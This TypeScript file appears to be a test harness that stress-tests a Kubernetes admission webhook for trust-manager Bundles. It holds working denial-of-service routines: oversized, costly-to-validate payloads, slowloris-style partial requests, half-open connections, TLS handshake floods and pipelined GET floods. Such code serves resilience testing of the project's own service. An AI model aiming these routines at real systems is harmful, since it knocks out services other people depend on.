/**
 * A client that means no good, as a process of its own, so that it does not slow down who watches. Runs until it is ended:
 * `stranger_process.ts <attack> <address> <port> <clients>`. It needs no right in the cluster, and trusts whoever answers.
 */
import net from "node:net";
import tls from "node:tls";
import { WEBHOOK_PATH } from "../../webhook/admission_handler.ts";
import { admissionReview } from "../admission_review.ts";

type Connect = () => net.Socket;

/** Opens a connection, and another one whenever that ends. */
function again(connect: Connect, use: (socket: net.Socket) => void): void {
  const socket = connect();
  socket.on("error", () => {});
  socket.on("close", () => setTimeout(() => again(connect, use), 10));
  socket.resume(); // or its end is not noticed
  use(socket);
}

/** Sends a request again and again, on one connection as long as it lives. */
function repeats(request: () => Uint8Array | string) {
  return (socket: net.Socket) => {
    const send = () => {
      if (!socket.destroyed) socket.write(request());
    };
    socket.on("data", (chunk) => {
      // An answer is short: its end is in one piece with its beginning.
      if (String(chunk).includes("HTTP/1.1")) send();
    });
    send();
  };
}

const HEAD = `POST ${WEBHOOK_PATH} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n`;

function post(spec: unknown): Uint8Array {
  const object = {
    apiVersion: "trust.cert-manager.io/v1alpha1",
    kind: "Bundle",
    metadata: { name: "strange" },
    spec,
  };
  const body = new TextEncoder().encode(JSON.stringify(admissionReview(object)));
  const head = new TextEncoder().encode(`${HEAD}content-length: ${body.length}\r\n\r\n`);
  const request = new Uint8Array(head.length + body.length);
  request.set(head);
  request.set(body, head.length);
  return request;
}

const list = <T>(count: number, item: (i: number) => T): T[] =>
  Array.from({ length: count }, (_, i) => item(i));
const target = { configMap: { key: "t" } };
const selecting = (selector: unknown) => ({ configMap: { selector, key: "k" } });

/** Bodies of just below 3 MB whose answer costs as much as can be. */
const COSTLY: readonly (() => unknown)[] = [
  () => ({ sources: list(46_000, () => selecting({ matchLabels: { a: "b" } })), target }),
  () => ({
    sources: [
      selecting({ matchExpressions: list(50_000, (i) => ({ key: `k${i}`, operator: "DoesNotExist" })) }),
    ],
    target,
  }),
  () => ({
    sources: list(
      100,
      (i) =>
        selecting({ matchExpressions: list(300, (j) => ({ key: `k${i}-${j}`, operator: "DoesNotExist" })) }),
    ),
    target,
  }),
  () => ({
    sources: [{ inLine: "x" }],
    target: {
      ...target,
      namespaceSelector: { matchLabels: Object.fromEntries(list(150_000, (i) => [`key${i}`, "v"])) },
    },
  }),
  () => ({ sources: list(3, (i) => ({ inLine: `${i}${"-".repeat(900_000)}` })), target }),
];

const attacks: Record<string, (plain: Connect, secure: Connect, client: number) => void> = {
  "costly requests": (_, secure, client) => {
    const request = post(COSTLY[client % COSTLY.length]?.());
    again(secure, repeats(() => request));
  },
  "small requests": (_, secure) => {
    const request = post({
      sources: list(100, (i) => selecting({ matchLabels: { [`k${i}`]: "v" } })),
      target,
    });
    again(secure, repeats(() => request));
  },
  "a head and one byte": (_, secure) => {
    again(secure, (socket) => socket.write(`${HEAD}content-length: 100\r\n\r\n{`));
  },
  "half-open connections": (plain) => again(plain, (socket) => socket.write("G")),
  "TLS handshakes": (_, secure) =>
    again(secure, (socket) => socket.on("secureConnect", () => socket.destroy())),
  "GET requests": (plain) =>
    again(
      plain,
      repeats(() => "GET /metrics HTTP/1.1\r\nhost: x\r\n\r\nGET /readyz HTTP/1.1\r\nhost: x\r\n\r\n"),
    ),
};

const [attack = "", host = "", port = "", clients = ""] = Deno.args;
const start = attacks[attack];
if (start === undefined) throw new Error(`Unknown attack: ${attack}`);
setInterval(() => {}, 1_000_000); // It does not end by itself.
for (let client = 0; client < Number(clients); client++) {
  start(
    // No stranger has the address of the kubelet. (That of the API server, they have here.)
    () => net.connect({ host, port: Number(port), localAddress: "127.0.0.2" }),
    () => tls.connect({ host, port: Number(port), rejectUnauthorized: false }),
    client,
  );
}
